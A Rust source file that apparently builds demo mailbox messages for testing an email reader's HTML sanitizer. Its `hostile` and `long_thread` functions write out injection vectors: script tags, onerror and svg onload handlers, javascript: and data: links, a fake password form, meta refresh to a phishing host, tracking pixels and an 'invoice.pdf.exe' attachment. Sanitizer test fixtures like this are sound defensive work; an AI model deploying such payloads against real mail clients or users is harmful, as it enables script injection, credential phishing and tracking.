//! Bodies for the demo mailbox: the kinds of mail people really get, and the
//! hostile ones a mail reader must defuse. `base` is where the stand-in
//! serves its "remote" images and its tracking pixel, so that a test can tell
//! whether anything fetched them.

use std::sync::Arc;

use super::mailbox::{DemoAttachment, file, inline_png};

/// A demo message body.
#[derive(Clone, Debug)]
pub enum DemoBody {
    Html(Arc<str>),
    Text(Arc<str>),
}

/// What the message shows besides its body.
pub struct Extras {
    pub body: DemoBody,
    pub unread: bool,
    pub important: bool,
    pub attachments: Vec<DemoAttachment>,
}

/// The hostile message: every vector of the sanitizer's corpus at once.
pub fn hostile(base: &str, id: &str) -> String {
    format!(
        r#"<html><head><base href="https://phish.demo.invalid/"><meta http-equiv="refresh" content="0;url=https://phish.demo.invalid/"><style>body {{ background: url({base}/_demo/tracker/open.gif?m={id}&v=css-sheet) }}</style><link rel="stylesheet" href="{base}/_demo/tracker/open.gif?m={id}&v=link"></head>
<body>
<p>Hi, the quarterly numbers are below. Please check them before Friday.</p>
<script>alert('script ran')</script>
<img src="x" onerror="alert('onerror ran')" alt="broken image">
<p><a href="javascript:alert('javascript link ran')">Open the report</a> · <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Open the data link</a></p>
<form action="https://phish.demo.invalid/login" method="post"><label>Password <input name="password" type="password"></label><button>Verify your account</button></form>
<iframe src="https://phish.demo.invalid/frame" title="frame"></iframe>
<object data="https://phish.demo.invalid/x.swf"></object>
<svg onload="alert('svg ran')" width="20" height="20"><circle r="10" cx="10" cy="10"/></svg>
<p style="background-image: url({base}/_demo/tracker/open.gif?m={id}&v=css-inline); color: #b3261e">This paragraph's style asked for a background image.</p>
<table style="border-collapse: collapse"><tr><th style="text-align:left;padding:4px 8px">Quarter</th><th style="text-align:right;padding:4px 8px">Revenue</th></tr>
<tr><td style="padding:4px 8px">Q3</td><td style="text-align:right;padding:4px 8px">1.2 M</td></tr>
<tr><td style="padding:4px 8px">Q4</td><td style="text-align:right;padding:4px 8px">1.4 M</td></tr></table>
<img src="{base}/_demo/tracker/open.gif?m={id}&v=pixel" width="1" height="1" alt="">
</body></html>"#
    )
}

/// A newsletter: tables, inline styles, a remote hero image and a tracking pixel.
pub fn newsletter(base: &str, id: &str, title: &str) -> String {
    let stories = [
        (
            "New office opens in Lisbon",
            "The Lisbon office opens its doors on Monday with room for 120 people, a roof terrace and the best coffee in the company.",
        ),
        (
            "Security training",
            "Everyone completes the annual security training by 30 November. It takes about 25 minutes.",
        ),
        (
            "Rust for web services",
            "Join the lunch & learn on Thursday: how the new inbox service verifies every token it sees.",
        ),
    ];
    let mut rows = String::new();
    for (headline, text) in stories {
        rows.push_str(&format!(
            r#"<tr><td style="padding:12px 24px;border-bottom:1px solid #e3e6ea"><h2 style="font-size:18px;margin:0 0 6px;color:#0b5699">{headline}</h2><p style="margin:0;color:#333;line-height:1.5">{text}</p></td></tr>"#
        ));
    }
    format!(
        r##"<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #e3e6ea;font-family:Segoe UI,Arial,sans-serif;max-width:100%">
<tr><td bgcolor="#0f6cbd" style="padding:16px 24px;color:#ffffff;font-size:22px;font-weight:bold">{title}</td></tr>
<tr><td style="padding:0"><img src="{base}/_demo/images/hero.svg" width="600" height="160" alt="This week at Contoso"></td></tr>
{rows}
<tr><td style="padding:12px 24px;font-size:12px;color:#5b616b">You get this newsletter because you work at Contoso. <a href="https://contoso.example/newsletter/unsubscribe">Unsubscribe</a> · <a href="mailto:comms@contoso.com">Write to us</a></td></tr>
</table>
<img src="{base}/_demo/tracker/open.gif?m={id}&v=newsletter" width="1" height="1" alt="">"##
    )
}

/// A body of about `bytes` bytes: a long thread of quoted replies, with a
/// little hostile markup in every reply.
pub fn long_thread(bytes: usize) -> String {
    let reply = "<blockquote style=\"border-left:3px solid #e3e6ea;margin:0 0 8px;padding-left:8px\"><p><b>Patti Fernandez</b> wrote:</p><p>About the floor plan: level three keeps the coffee machine, parking moves to the north entrance, and cake is on Friday. <a href=\"https://contoso.example/floor-plan\">Floor plan</a> <img src=\"x\" onerror=\"alert(1)\"><script>alert(2)</script></p></blockquote>\n";
    let mut body = String::with_capacity(bytes + reply.len());
    body.push_str("<p>Summing up the thread so far, newest first:</p>\n");
    while body.len() < bytes {
        body.push_str(reply);
    }
    body
}

const PLAIN: &str = "Hi,\n\nno subject on this one, sorry. Two things:\n\n1. The <b>draft</b> is in the shared folder (markup in a text mail stays text).\n2. Lunch on Friday? 12:30 at the usual place.\n\n-- \nAlex";

const GERMAN: &str = "Hallo zusammen,\n\nbitte prüft eure Reisekostenabrechnungen für März bis Freitag.\nBelege über 50 € bitte als PDF anhängen.\n\nViele Grüße\nJohanna";

/// The extras of the `i`-th Inbox message of a demo mailbox.
pub fn extras(i: usize, subject: &str, base: &str, id: &str, long: &Arc<str>) -> Extras {
    let html = |s: String| DemoBody::Html(Arc::from(s));
    let paragraph = |text: &str| html(format!("<p>{}</p>", escape(text)));
    let xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    let (body, attachments): (DemoBody, Vec<DemoAttachment>) = match i {
        0 => (
            html("<p>Hi all,</p><p>The Q4 numbers are in the attached workbook. Headlines:</p><table border=\"1\" cellpadding=\"4\"><tr><th>Region</th><th>Budget</th><th>Actual</th></tr><tr><td>North</td><td align=\"right\">410,000</td><td align=\"right\">398,250</td></tr><tr><td>South</td><td align=\"right\">285,000</td><td align=\"right\">301,900</td></tr></table><p>Megan</p>".into()),
            vec![
                file("ATT1", "Q4-budget.xlsx", xlsx, 48_213),
                file("ATT2", "Q4-notes.pdf", "application/pdf", 1_402_331),
            ],
        ),
        1 => (html(newsletter(base, id, "Your weekly digest")), vec![]),
        2 => (DemoBody::Text(Arc::from(PLAIN)), vec![]),
        3 => (
            html(hostile(base, id)),
            vec![file("ATT1", "invoice.pdf.exe", "application/octet-stream", 73_728)],
        ),
        4 => (
            html("<p>Bonjour à tous,</p><p>Café ☕ et croissants vendredi à 9 h, salle « Lisbonne ». Dites-moi si vous venez&nbsp;!</p><p>Isaiah</p>".into()),
            vec![],
        ),
        5 => (
            DemoBody::Text(Arc::from(GERMAN)),
            vec![file("ATT1", "Belege-März.zip", "application/zip", 2_310_554)],
        ),
        6 => (
            html("<div dir=\"ltr\"><p>各位好，</p><p>会议纪要如下：第一季度发布新版本；第二季度完善移动端。</p><p dir=\"rtl\" lang=\"ar\">ملاحظات الاجتماع مرفقة.</p><p>Lidia</p></div>".into()),
            vec![file(
                "ATT1",
                "roadmap.pptx",
                "application/vnd.openxmlformats-officedocument.presentationml.presentation",
                5_120_004,
            )],
        ),
        7 => (
            html("<p>🎉 We launched! Thank you all.</p><p><img alt=\"A small green tick\" width=\"16\" height=\"16\" src=\"data:image/svg+xml;charset=utf-8,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%20viewBox%3D%220%200%2016%2016%22%3E%3Cpath%20d%3D%22M2%209l4%204%208-9%22%20stroke%3D%22%231e7b34%22%20stroke-width%3D%222%22%20fill%3D%22none%22%2F%3E%3C%2Fsvg%3E\"> Inline images (data: and cid:) are part of the message.</p><p><img alt=\"Team photo (an inline attachment)\" src=\"cid:image001.png@01DB3C7A.5E4F2A10\" width=\"320\" height=\"180\"></p>".into()),
            vec![inline_png("ATT1", "image001.png", "image001.png@01DB3C7A.5E4F2A10", 320, 180, 15)],
        ),
        8 => (
            html(format!("<table cellpadding=\"6\"><tr><td style=\"color:#c50f1f;font-weight:bold\">3 tasks are late</td></tr><tr><td>Update the expense policy · due 20 Nov</td></tr><tr><td>Review the Q4 budget · due 25 Nov</td></tr><tr><td><a href=\"https://tasks.office.com/\">Open Planner</a></td></tr></table><img src=\"{base}/_demo/tracker/open.gif?m={id}&v=planner\" width=\"1\" height=\"1\" alt=\"\">")),
            vec![],
        ),
        9 => (DemoBody::Html(long.clone()), vec![]),
        _ => (
            paragraph(&format!("{subject}\n\nSee you soon.")),
            if i.is_multiple_of(4) {
                vec![file(
                    "ATT1",
                    "agenda.docx",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    23_511,
                )]
            } else {
                vec![]
            },
        ),
    };
    Extras {
        body,
        unread: matches!(i, 0 | 1 | 3 | 6 | 12 | 17),
        important: matches!(i, 0 | 3 | 13),
        attachments,
    }
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}
